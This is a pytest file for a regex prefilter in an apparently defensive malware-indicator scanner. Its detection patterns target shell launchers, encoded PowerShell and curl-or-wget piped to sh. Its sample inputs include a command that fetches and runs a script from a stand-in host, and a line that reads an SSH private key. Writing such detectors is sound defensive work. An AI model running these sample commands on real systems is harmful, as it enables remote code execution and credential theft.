"""The regex prefilter: what it derives is needed by every match, and it fails safe."""

from __future__ import annotations

import re

import pytest

from mphunter_gate.analysis.indicators import rules
from mphunter_gate.analysis.required import may_match, required


@pytest.mark.parametrize(
    ("pattern", "needs"),
    [
        (r"\b(cmd(\.exe)?\s*/[ck]|pwsh)\b", {"cmd", "pwsh"}),
        (r"(^|\s)-(e|enc|encodedcommand)\s+x", {"-e"}),
        (r"(curl|wget)\b[^\n]{0,9}\|\s*(ba)?sh", {"curl", "wget"}),
        (r"getenv\(\s*['\"](temp|appdata)", {"getenv("}),
    ],
)
def test_needed_strings(pattern: str, needs: set[str]) -> None:
    assert required(re.compile(pattern)) == needs


@pytest.mark.parametrize("pattern", [r"[a-z]{40,}", r"x?|y", r"(?i)powershell", r"(a|)b?"])
def test_nothing_nameable_means_always_search(pattern: str) -> None:
    needs = required(re.compile(pattern))
    assert needs is None
    assert may_match(needs, "")


def test_prefilter_never_hides_a_match() -> None:
    texts = [
        "subprocess.Popen('powershell -nop -c whoami')",
        "cmd /c start x",
        "x = 'pwsh -enc " + "QUFB" * 12 + "'",
        "os.system('curl -s http://example.invalid/x | sh')",
        "os.getenv('appdata')",
        "open(os.path.join(home, '.ssh/id_rsa'))",
        "nohup ./x > /dev/null 2>&1 &",
    ]
    for rule in rules():
        for text in texts:
            if rule.pattern.search(text):
                assert may_match(rule.needs, text), (rule.name, text)
